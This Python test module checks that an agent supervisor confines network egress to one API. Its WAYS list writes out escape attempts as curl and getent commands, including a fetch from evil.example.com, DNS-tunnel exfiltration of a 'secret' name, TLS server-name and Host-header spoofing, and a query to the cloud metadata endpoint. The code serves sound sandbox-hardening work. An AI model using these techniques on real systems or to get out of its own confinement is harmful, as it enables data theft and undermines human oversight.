"""Egress by name: an agent that may reach one API, in a world that the demo makes up.

Each way out is tried twice with the same command: in the namespace of the daemon without walls,
where it has to work, and in a call.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass

from supervisor.client import Supervisor
from tests.demo.agent import Done
from tests.demo.evidence import Evidence, Fell, expect
from tests.demo.hostile import Verdict
from tests.support.world import World

API, EVIL = "api.github.com", "evil.example.com"
PROFILE = "api"
QUESTION = f"What does {API} have for us? (HTTPS, its certificate checked)"
CURL = ("curl", "--silent", "--show-error", "--fail", "--max-time", "10")
UPLOAD = "head -c 1000000 /dev/zero | curl --silent --show-error --fail --data-binary @- "


@dataclass(frozen=True, slots=True, kw_only=True)
class Way:
    """A way out, and the document or status that shows that it worked."""

    title: str
    argv: tuple[str, ...]
    held: Callable[[Evidence], None]
    gets: str = ""


def _denied(name: str) -> Callable[[Evidence], None]:
    def held(evidence: Evidence) -> None:
        found = list(evidence.denials(name))
        expect(found, f"the record has no denial of {name}")
        evidence.say(f"{name}: {found[0].get('detail')} · {found[0].get('rule')}")

    return held


WAYS = (
    Way(
        title="fetch from another site", argv=(*CURL, f"http://{EVIL}/"),
        gets=f"of {EVIL}", held=_denied("dns"),
    ),
    Way(
        title="carry data out in a name", argv=("getent", "hosts", "t0psecret.tunnel.example.com"),
        gets="t0psecret", held=_denied("dns"),
    ),
    Way(
        title="reach another site at the API's own address, by its TLS server name",
        argv=(*CURL, "--insecure", "--connect-to", f"{EVIL}:443:{API}:443", f"https://{EVIL}/"),
        gets=f"of {EVIL}", held=_denied("tls"),
    ),
    Way(
        title="and in the clear, by the Host of a request",
        argv=(*CURL, "--header", f"Host: {EVIL}", f"http://{API}/"),
        gets=f"of {EVIL}", held=_denied("http"),
    ),
    Way(
        title="ask the cloud's metadata service", argv=(*CURL, "http://169.254.169.254/"),
        gets="of metadata", held=_denied("connect"),
    ),
    Way(
        title="send more than the profile has room for",
        argv=("sh", "-c", f"{UPLOAD} http://{API}/ && echo sent"),
        gets="sent", held=lambda evidence: evidence.denied_limit("egress"),
    ),
)  # fmt: skip


def work(client: Supervisor, there: World) -> Iterator[Done]:
    """Read what the API has, by the name that the profile allows."""
    argv = [*CURL, "--cacert", "ca.pem", f"https://{API}/"]
    try:
        call = client.run(argv, profile=PROFILE, files={"ca.pem": there.ca}, agent="demo")
        evidence = Evidence.of(client, call)
        expect(call.ok, f"it failed: {evidence.last_error()}")
        answer = call.stdout.decode().strip()
        expect(answer == f"canary {there.token} of {API}", f"it said: {answer}")
        expect(not call.denials, f"something was denied: {call.denials}")
        (flow,) = call.flows
    except (Fell, ValueError) as failure:
        yield Done(question=QUESTION, answer=str(failure), call_id="", ok=False, milliseconds=0)
        return
    times = call.timeline
    yield Done(
        question=QUESTION,
        answer=f"{answer} · {flow.name}:{flow.port} at {flow.address}, {flow.sent} bytes out, "
        f"{flow.received} in",
        call_id=call.call_id, ok=True,
        milliseconds=(times.destroyed_ns - times.accepted_ns) / 1e6,
    )  # fmt: skip


def attack(client: Supervisor, there: World) -> Iterator[Verdict]:
    """Try every way out."""
    for way in WAYS:
        yield _try(client, there, way)


def _try(client: Supervisor, there: World, way: Way) -> Verdict:
    unconfined, call_id = "not tried", ""
    try:
        control = there.unconfined(way.argv)
        expect(way.gets.encode() in control.stdout, f"it does not work unconfined: {control}")
        unconfined = "works"
        mark = there.mark()
        call = client.run(list(way.argv), profile=PROFILE, agent="demo")
        call_id = call.call_id
        evidence = Evidence.of(client, call)
        expect(way.gets.encode() not in call.stdout, f"it got {call.stdout!r}")
        expect(not call.ok, "it succeeded")
        seen = [line for line in there.settled(mark) if EVIL in str(line) or "t0p" in str(line)]
        expect(not seen, f"the world saw it: {seen}")
        way.held(evidence)
    except Fell as failure:
        return Verdict(
            title=way.title, unconfined=unconfined, confined="FELL", record=str(failure),
            call_id=call_id, held=False,
        )  # fmt: skip
    return Verdict(
        title=way.title, unconfined=unconfined, confined="held",
        record="; ".join(evidence.lines), call_id=call_id, held=True,
    )  # fmt: skip
